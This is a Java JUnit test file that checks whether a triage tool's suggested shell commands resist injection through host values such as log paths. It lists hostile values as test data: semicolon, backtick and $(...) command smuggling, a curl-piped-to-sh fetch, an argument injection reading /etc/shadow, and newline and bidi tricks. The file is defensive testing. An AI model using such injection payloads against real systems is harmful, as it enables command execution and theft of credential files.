package io.triage.explain;

import io.triage.TestHome;
import io.triage.capture.Capture;
import io.triage.knowledge.KnowledgeBase;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * Host values put into the suggested commands never become commands: every command template of the shipped
 * knowledge (remediation.yaml's steps and texts.yaml's questions, iterated, not listed) is filled with each
 * hostile value of a table, and the filled command is run by {@code /bin/sh} in a sandbox where every command
 * word is a stub that records its arguments. The payload of each value would create a marker file with shell
 * built-ins only; the marker must never appear, and each value must reach its command as literal text, once
 * per placeholder. Values that cannot be quoted (newlines, bidi, a leading dash) must withhold the command.
 */
class CommandInjectionTest {
    private static final Pattern PLACEHOLDER = Pattern.compile("\\{(port|log|server|pid)}");

    @TempDir
    static Path sandbox;
    static Path marker;
    static Path stubs;
    static Path argLog;

    @BeforeAll
    static void stubEveryWordOfEveryTemplate() throws IOException {
        assumeTrue(Files.isExecutable(Path.of("/bin/sh")), "needs a POSIX shell");
        marker = sandbox.resolve("PWNED");
        stubs = Files.createDirectory(sandbox.resolve("bin"));
        argLog = sandbox.resolve("args.log");
        Set<String> words = new LinkedHashSet<>();
        for (String t : templates().values()) {
            Matcher m = Pattern.compile("[A-Za-z][A-Za-z0-9._-]*").matcher(t);
            while (m.find()) {
                words.add(m.group());
            }
        }
        String stub = "#!/bin/sh\nfor a in \"${0##*/}\" \"$@\"; do printf 'ARG:%s\\n' \"$a\"; done >> \"$ARGLOG\"\n";
        for (String w : words) {
            Path p = stubs.resolve(w);
            Files.writeString(p, stub);
            Files.setPosixFilePermissions(p, PosixFilePermissions.fromString("rwx------"));
        }
    }

    /** Every command template in the shipped knowledge, by where it comes from. */
    static Map<String, String> templates() {
        KnowledgeBase kb = TestHome.triage().knowledge();
        Map<String, String> all = new LinkedHashMap<>();
        kb.steps().forEach((id, s) -> {
            if (s.command() != null && !s.command().isBlank()) {
                all.put("remediation.yaml step " + id, s.command());
            }
        });
        kb.questions().forEach((id, q) -> {
            if (q.command() != null && !q.command().isBlank()) {
                all.put("texts.yaml question " + id, q.command());
            }
        });
        return all;
    }

    /** Hostile values whose payload, if ever executed, creates the marker with shell built-ins only. */
    static List<String> offerable() {
        String m = marker.toString();
        return List.of(
                "x.log; : >" + m,
                "$(: >" + m + ")",
                "`: >" + m + "`",
                "a'; : >" + m + "; echo '",
                "a\"; : >" + m + "; echo \"",
                "x | : >" + m,
                "x && : >" + m,
                "x || : >" + m,
                "x.log >" + m,
                "/var/log/my server.log",
                "/var/log/*.log",
                "?[a-z]*",
                "~root/x.log",
                "$HOME/x.log ${IFS}",
                "it's \"quoted\" \\ back\\slash",
                "'",
                "}{log}{",
                "x.log $(curl -s http://127.0.0.1:9/x|sh)",
                "30000",
                "/var/log/x.log");
    }

    static List<String> notOfferable() {
        String m = marker.toString();
        return List.of(
                "x.log\n: >" + m,
                "x.log\r: >" + m,
                "x.log\u202e; : >" + m,
                "x\u200b.log",
                "x\u001b]52;c;Y2F0\u0007.log",
                "-n 1 /etc/shadow",
                "--output=" + m,
                "x".repeat(2000));
    }

    @Test
    void everyTemplateFilledWithAHostileValueRunsNoPayloadAndGetsTheValueAsLiteralText() throws Exception {
        Map<String, String> templates = templates();
        assertTrue(templates.size() >= 20, "the shipped knowledge should have its command templates: " + templates.size());
        int withPlaceholders = 0;
        for (Map.Entry<String, String> t : templates.entrySet()) {
            int expected = countPlaceholders(t.getValue());
            if (expected > 0) {
                withPlaceholders++;
            }
            for (String v : offerable()) {
                Map<String, String> known = new HashMap<>();
                for (String name : Diagnoser.PLACEHOLDERS.keySet()) {
                    known.put(name, v);
                }
                var filled = Diagnoser.fill(t.getValue(), known);
                String where = t.getKey() + " with " + v + ": " + filled.command();
                assertTrue(filled.offered(), where + " was withheld: " + filled.withheld());
                List<String> args = run(filled.command());
                assertFalse(Files.exists(marker), "payload ran: " + where);
                int seen = 0;
                for (String a : args) {
                    seen += occurrences(a, v);
                }
                assertEquals(expected, seen, "the value should reach its command literally, once per placeholder: "
                        + where + " gave " + args + "; the shell said: " + Files.readString(sandbox.resolve("sh.out")));
            }
        }
        assertTrue(withPlaceholders >= 10, "templates with placeholders: " + withPlaceholders);
    }

    @Test
    void aValueThatCannotBeQuotedWithholdsTheCommandAndIsShownApart() throws Exception {
        for (Map.Entry<String, String> t : templates().entrySet()) {
            for (String v : notOfferable()) {
                Map<String, String> known = new HashMap<>();
                for (String name : Diagnoser.PLACEHOLDERS.keySet()) {
                    known.put(name, v);
                }
                var filled = Diagnoser.fill(t.getValue(), known);
                if (countPlaceholders(t.getValue()) == 0) {
                    assertTrue(filled.offered(), t.getKey());
                    continue;
                }
                assertEquals("", filled.command(), t.getKey() + " offered with " + v);
                assertFalse(filled.withheld().isEmpty(), t.getKey());
                for (String w : filled.withheld()) {
                    assertTrue(io.triage.safety.Sanitizer.isInert(w), "withheld note is not inert: " + w);
                }
            }
        }
    }

    @Test
    void aHostileLogPathFromTargetTxtNeverRunsFromTheDiagnosisCommands(@TempDir Path tmp) throws Exception {
        Path scenario = TestHome.fixture("30-config-mismatch-vllm-max-model-len");
        Capture c = TestHome.triage().reader().read(scenario);
        int offered = 0;
        for (String log : List.of("/srv/x.log $(: >" + marker + ")", "/srv/x.log`: >" + marker + "`;: >" + marker,
                "/srv/x.log\n: >" + marker)) {
            Map<String, String> target = new LinkedHashMap<>(c.target());
            target.put("log", log);
            Capture hostile = new Capture(c.source(), c.probes(), target, c.intent(), c.notes());
            Diagnosis d = TestHome.triage().diagnose(hostile, Map.of());
            List<String> commands = new ArrayList<>();
            d.nextSteps().forEach(s -> commands.add(s.command()));
            d.questions().forEach(q -> commands.add(q.command()));
            boolean quotable = !log.contains("\n");
            boolean usedLog = false;
            for (String cmd : commands) {
                if (cmd.isEmpty()) {
                    continue;
                }
                offered++;
                List<String> args = run(cmd);
                assertFalse(Files.exists(marker), "payload ran from: " + cmd);
                usedLog |= args.stream().anyMatch(a -> a.contains(log));
            }
            if (quotable) {
                assertTrue(usedLog, "no offered command used the log path: " + commands);
            } else {
                assertTrue(d.nextSteps().stream().anyMatch(s -> !s.withheld().isEmpty())
                        || d.questions().stream().anyMatch(q -> !q.withheld().isEmpty()), "nothing withheld");
                String text = new TextRenderer().render(d);
                assertTrue(text.contains("no command offered: the log path /srv/x.log␤: >"), text);
            }
        }
        assertTrue(offered > 0);
    }

    private static int countPlaceholders(String template) {
        String t = template.strip();
        if (t.startsWith("#")) {
            return 0; // a comment: nothing runs, nothing is passed
        }
        Matcher m = PLACEHOLDER.matcher(t);
        int n = 0;
        while (m.find()) {
            n++;
        }
        return n;
    }

    private static int occurrences(String s, String v) {
        int n = 0;
        for (int at = s.indexOf(v); at >= 0; at = s.indexOf(v, at + v.length())) {
            n++;
        }
        return n;
    }

    /** Runs {@code command} in the sandbox: stubs only on PATH, built-ins that act replaced by recorders. */
    private static List<String> run(String command) throws Exception {
        Files.deleteIfExists(argLog);
        String prelude = "rec() { for a in \"$@\"; do printf 'ARG:%s\\n' \"$a\"; done >> \"$ARGLOG\"; }\n"
                + "kill() { rec kill \"$@\"; }\necho() { rec echo \"$@\"; }\ncommand() { rec command \"$@\"; }\n"
                + "cd() { rec cd \"$@\"; }\n";
        ProcessBuilder pb = new ProcessBuilder("/bin/sh", "-c", prelude + command);
        pb.environment().clear();
        pb.environment().put("PATH", stubs.toString());
        pb.environment().put("ARGLOG", argLog.toString());
        pb.environment().put("HOME", sandbox.toString());
        pb.directory(sandbox.toFile());
        pb.redirectInput(ProcessBuilder.Redirect.from(Path.of("/dev/null").toFile()));
        pb.redirectErrorStream(true);
        pb.redirectOutput(sandbox.resolve("sh.out").toFile());
        Process p = pb.start();
        if (!p.waitFor(20, TimeUnit.SECONDS)) {
            p.destroyForcibly();
            throw new AssertionError("the shell did not finish: " + command);
        }
        List<String> args = new ArrayList<>();
        if (Files.exists(argLog)) {
            for (String line : Files.readAllLines(argLog, StandardCharsets.UTF_8)) {
                if (line.startsWith("ARG:")) {
                    args.add(line.substring(4));
                }
            }
        }
        return args;
    }
}
